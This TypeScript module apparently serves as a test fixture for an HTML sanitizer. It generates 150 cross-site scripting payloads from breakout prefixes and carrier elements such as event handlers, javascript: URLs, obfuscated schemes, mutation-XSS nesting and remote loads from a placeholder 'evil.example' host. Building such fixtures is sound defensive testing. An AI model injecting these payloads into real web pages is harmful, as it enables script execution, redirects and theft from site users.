/** An attribute of every payload's element. A page whose markup has this attribute has let the payload in. */
export const mark = "data-let-in";

const run = "window.letIn=1";

/** Ways to break out of an attribute, an element or a comment. */
const exits = ["", '">', "' >", "</script>", "</title></textarea></style>", "-->]]>"];

/** Elements that would run a script, load something, or change where the page leads. */
const carriers = [
  `<script ${mark}>${run}</script>`,
  `<script ${mark} src=//evil.example/x.js></script>`,
  `<img ${mark} src=x onerror=${run}>`,
  `<IMG ${mark} SRC=x OnErRoR=${run}>`,
  `<svg ${mark} onload=${run}>`,
  `<svg ${mark}><script>${run}</script></svg>`,
  `<svg ${mark}><animate href=#x attributeName=href values=javascript:${run}></svg>`,
  `<math ${mark}><mtext><style><img src onerror=${run}></style></mtext></math>`,
  `<a ${mark} href="javascript:${run}">click</a>`,
  `<a ${mark} href="java\tscript:${run}">click</a>`,
  `<a ${mark} href="&#106;avascript:${run}">click</a>`,
  `<a ${mark} href="data:text/html,<script>${run}</script>">click</a>`,
  `<iframe ${mark} srcdoc="<script>${run}</script>"></iframe>`,
  `<iframe ${mark} src="javascript:${run}"></iframe>`,
  `<object ${mark} data="javascript:${run}"></object>`,
  `<embed ${mark} src="//evil.example/x.swf">`,
  `<form ${mark} action="//evil.example"><button>Pay</button></form>`,
  `<input ${mark} autofocus onfocus=${run}>`,
  `<details ${mark} open ontoggle=${run}>x</details>`,
  `<video ${mark}><source onerror=${run}></video>`,
  `<base ${mark} href="//evil.example/">`,
  `<meta ${mark} http-equiv=refresh content="0;url=//evil.example">`,
  `<link ${mark} rel=stylesheet href="//evil.example/x.css">`,
  `<style ${mark}>*{background:url(//evil.example)}</style>`,
  `<template ${mark} shadowrootmode=open><img src=x onerror=${run}></template>`,
];

/** All combinations: 150 payloads. */
export const markupPayloads: readonly string[] = exits.flatMap((exit) =>
  carriers.map((carrier) => exit + carrier),
);
